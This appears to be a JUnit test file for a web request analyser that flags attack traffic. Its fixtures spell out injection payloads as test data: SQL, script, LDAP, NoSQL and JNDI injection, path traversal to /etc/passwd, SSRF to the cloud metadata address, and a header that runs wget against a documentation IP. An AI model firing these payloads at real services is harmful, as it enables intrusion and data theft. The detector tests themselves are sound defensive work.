package org.hansho.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class RequestAnalysisTest {
  private final RequestAnalysis analysis = new RequestAnalysis();

  @ParameterizedTest
  @CsvSource(
      delimiter = '>',
      quoteCharacter = '~',
      textBlock =
          """
          /a?id=7+union+select+1,2            > sql-injection id=7 union select 1,2
          /a?q=x%2527+or+%25271%2527=%25271   > sql-injection q=x' or '1'='1
          /a/x'%20or%201=1/b                  > sql-injection path=x' or 1=1
          /a?q=%u0027;drop+table+t            > sql-injection q=';drop table t
          /a?b=1&q=%3Cscript                  > cross-site-scripting q=<script
          /a?q=%22+onload=%22f                > cross-site-scripting q=onload="f
          /a?q=java%09script:f                > cross-site-scripting q=java\\tscript:f
          /a?u=javas%26%2399;ript:f           > cross-site-scripting u=javas&#99;ript:f
          /a?q=%27-alert(1)-%27               > cross-site-scripting q='-alert(1)-'
          /a?ip=192.0.2.1;cat+/etc/motd       > command-injection ip=;cat /etc/motd
          /a?ip=$(id)                         > command-injection ip=$(id)
          /a?ip=x%7C/usr/bin/id               > command-injection ip=|/usr/bin/id
          /a?f=php://filter                   > php-injection f=php://filter
          /a?f=%3C?=1                         > php-injection f=<?=1
          /a?o=O:1:%22A%22:0:%7B%7D           > php-injection o=O:1:"A":0:{}
          /a?q=$%7Bjndi:x                     > expression-injection q=${jndi:x
          /a?f=../../x                        > path-traversal f=../../x
          /%2e%2e/%2e%2e/x                    > path-traversal path=../../x
          /a?u=http://169.254.169.254/latest/ > server-side-request u=169.254.169.254/latest/
          /a?u=169.254.169.254/metadata/x     > server-side-request u=169.254.169.254/metadata/x
          /proxy/http://169.254.169.254/x     > server-side-request path=169.254.169.254/x
          /a?n=*)(uid=*))(%7C(uid=*           > ldap-injection n=)(uid=*))(|(uid=*
          /a?n=admin)(%26)                    > ldap-injection n=)(&)
          /a?n=*)(objectClass=*               > ldap-injection n=)(objectClass=*
          /a?n=*(%7C(mail=*))                 > ldap-injection n=(|(mail=*))
          /a?n=admin))%2500x                  > ldap-injection n=))\\0x
          /a?user[$ne]=x                      > nosql-injection user[$ne]=user[$ne]
          /a?l[password]%5B%24gt%5D=          > nosql-injection l[password][$gt]=l[password][$gt]
          /a?id[$gt]=                         > nosql-injection id[$gt]=id[$gt]
          /a?q=%7B%22$where%22:%22a%22%7D     > nosql-injection q="$where":"a"}
          /a?q=%7B%22pass%22:%7B%22$ne%22:1%7D%7D > nosql-injection q="$ne":1}}
          /a?f=%2Fetc%2Fpasswd                > path-traversal f=/etc/passwd
          /a?u=x%0d%0aSet-Cookie:+a=b         > protocol-violation u=\\r\\nSet-Cookie: a=b
          /a%c0%afb                           > protocol-violation path=/a/b
          /a%00b                              > protocol-violation path=/a\\0b
          a?b                                 > protocol-violation target=a?b
          /WordPress//./wp-login.php          > sensitive-path path=/wordpress/wp-login.php
          /x/.git/config                      > sensitive-path path=/x/.git/config
          /a/db.sql                           > sensitive-path path=/a/db.sql
          """)
  void theFindingNamesThePartAndItsBytes(String target, String expected) {
    String finding = expected.replace("\\t", "\t").replace("\\r", "\r").replace("\\n", "\n");
    assertThat(Requests.findings(target)).contains(finding.replace("\\0", "\0"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/",
        "/search?q=rock+%27n%27+roll&page=2",
        "/search?q=f(x)(y=2)+:)",
        "/items?price[$gt]=10&state[$ne]=sold&$limit=10&tag[$in][]=a",
        "/items?where=%7B%22score%22:%7B%22$gt%22:1000,%22$ne%22:5%7D%7D",
        "/items?filter[name]=smith&fields[users]=name",
        "/search?q=%E6%97%A5%E6%9C%AC",
        "/a/b.html?utm_source=x&utm_medium=e-mail#top",
        "/redirect?to=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc",
        "/img/..thumb/a.png?size=10x10",
        "/api/items?filter=%7B%22a%22%3A%5B1%2C2%5D%7D",
        "/x?text=salt+%26+pepper;+cats+and+dogs",
        "/x?html=%3Cb%3Ebold%3C/b%3E",
        "/x?t=2026-11-25T10:00:00%2B09:00",
        "/x?a=online%3D1",
        "/x?note=call+me+(echo+park)%3B+time+to+go",
        "/x?price=%2410",
        "/2026/11/25/how-to-order-by-phone--part-2/",
        "/x?q=c%2B%2B+or+java"
      })
  void ordinaryRequestsAreLeftAlone(String target) {
    assertThat(Requests.findings(target)).isEmpty();
  }

  @ParameterizedTest
  @CsvSource({
    "/A/../b//C.Php;jsessionid=1,/b/c.php",
    "/../../x/,/x/",
    "http://example.com/a?b,/a",
    "/a%252fb,/a/b",
    "/,/"
  })
  void pathsHaveOneForm(String target, String expected) {
    byte[] bytes = Requests.bytes(target);
    analysis.begin();
    analysis.target(bytes, 0, bytes.length);
    assertThat(Requests.path(analysis)).isEqualTo(expected);
  }

  @Test
  void whatIsRememberedOfPathsChangesNoAnswer() {
    String[] parts = {
      "/", "/", "a", "B", "..", ".git", "%2e", "%2F", "admin", ".php", ";x", "%27+or+1=1", "~", "本"
    };
    Random random = new Random(11);
    for (int i = 0; i < 5_000; i++) {
      StringBuilder text = new StringBuilder("/");
      for (int left = random.nextInt(4); left > 0; left--) {
        text.append(parts[random.nextInt(parts.length)]);
      }
      byte[] path = Requests.bytes(text.toString());
      RequestAnalysis fresh = new RequestAnalysis();
      fresh.path(path, 0, path.length);
      analysis.begin();
      analysis.path(path, 0, path.length);
      assertThat(Requests.read(analysis)).as("%s", text).isEqualTo(Requests.read(fresh));
      assertThat(Requests.path(analysis)).isEqualTo(Requests.path(fresh));
      assertThat(analysis.pathKind()).isEqualTo(fresh.pathKind());
    }
  }

  @Test
  void methodsAndVersionsThatNobodyKnowsAreViolations() {
    analysis.begin();
    analysis.method(Requests.bytes("GETT"), 0, 4);
    analysis.version(Requests.bytes("HTTP/9.9"), 0, 8);
    analysis.method(Requests.bytes("PROPFIND"), 0, 8);
    analysis.version(Requests.bytes("HTTP/1.1"), 0, 8);
    assertThat(Requests.read(analysis))
        .containsExactly("protocol-violation method=GETT", "protocol-violation version=HTTP/9.9");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '>',
      quoteCharacter = '~',
      textBlock =
          """
          Mozilla/5.0 $(wget 192.0.2.1/x)                   > command-injection
          `id`                                              > command-injection
          if(now()=sysdate(),sleep(15),0)                   > sql-injection
          (select(0)from(select(sleep(15)))v)               > sql-injection
          https://www.example.com/?q=7)%20and%20sleep(5)    > sql-injection
          {{config}}                                        > expression-injection
          """)
  void commandsQueriesAndExpressionsInHeadersAreFound(String header, String family) {
    byte[] bytes = Requests.bytes(header);
    analysis.begin();
    analysis.agent(bytes, 0, bytes.length);
    analysis.referrer(bytes, 0, bytes.length);
    assertThat(Requests.read(analysis))
        .hasSize(2)
        .allSatisfy(finding -> assertThat(finding).startsWith(family + " "));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0",
        "Mozilla/5.0 (compatible; Example/2.0(beta); +https://www.example.com/bot)",
        "Example/1.0 (select edition; update 3) core(7)",
        "https://www.example.com/search?q=union%20select&price=$5",
        "https://www.example.com/f(x)?a=b;c=d&e=`x`",
        "https://www.example.com/tiles/{z}/{x}?t=${name}"
      })
  void headersOfEveryDayAreLeftAlone(String header) {
    byte[] bytes = Requests.bytes(header);
    analysis.begin();
    analysis.agent(bytes, 0, bytes.length);
    analysis.referrer(bytes, 0, bytes.length);
    assertThat(Requests.read(analysis)).isEmpty();
  }

  @ParameterizedTest
  @CsvSource({
    "sqlmap/1.8#stable (https://example.com),sqlmap",
    "Mozilla/5.00 (Nikto/2.1.5),Nikto",
    "Mozilla/5.0 (X11; U; Linux i686; en-US; rv:1.9.2.3) Gecko/20100423 Ubuntu/10.04 (lucid)"
        + " Firefox/3.6.3,blindelephant",
    "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/120.0,''"
  })
  void toolsAreNamed(String agent, String expected) {
    byte[] bytes = Requests.bytes(agent);
    analysis.begin();
    analysis.agent(bytes, 0, bytes.length);
    assertThat(Requests.text(analysis.evidence(), analysis.toolFrom(), analysis.toolTo()))
        .isEqualTo(expected);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<",
        "<a ",
        "'style=a",
        "\"href='",
        "'-",
        " o",
        "|",
        ";a",
        ";/a",
        "`",
        "$(",
        "&#",
        "<a b=",
        "\n"
      })
  void aMegabyteOfAnySignTakesLinearSteps(String sign) {
    byte[] bytes = Requests.bytes(sign.repeat((1 << 20) / sign.length()));
    ScriptInjection script = new ScriptInjection();
    script.judge(bytes, 0, bytes.length);
    assertThat(script.steps()).isLessThan(200L * bytes.length);
    CommandInjection command = new CommandInjection();
    command.judge(bytes, 0, bytes.length);
    assertThat(command.steps()).isLessThan(60L * bytes.length);
  }

  @Test
  void anyBytesAreAnalysedWithoutAnException() {
    Random random = new Random(85);
    String[] parts = {
      "%", "%2", "%27", "%u00", "%c0", "%ae", "<", "script", " on", "load=", "'", "\"", "../", "/",
      "?", "&", "=", ";", "|", "$(", "${", "jndi:", "cat ", "php:", "//", "O:1:", "{", "\r\n", "a",
      "&#", "x;", "\u00e9", ".", "~", "union ", "select ", "1", "--"
    };
    for (int round = 0; round < 100_000; round++) {
      StringBuilder target = new StringBuilder();
      for (int i = random.nextInt(16); i > 0; i--) {
        target.append(parts[random.nextInt(parts.length)]);
      }
      byte[] bytes = Requests.bytes(target.toString());
      analysis.begin();
      analysis.target(bytes, 0, bytes.length);
      analysis.agent(bytes, 0, bytes.length);
      analysis.method(bytes, 0, bytes.length);
      RequestEvidence evidence = analysis.evidence();
      for (int i = 0; i < evidence.count(); i++) {
        assertThat(evidence.valueFrom(i)).isBetween(0, evidence.valueTo(i));
        assertThat(evidence.valueTo(i)).isLessThanOrEqualTo(evidence.bytes().length);
      }
      assertThat(analysis.extensionFrom()).isBetween(analysis.pathFrom(), analysis.pathTo());
    }
  }
}
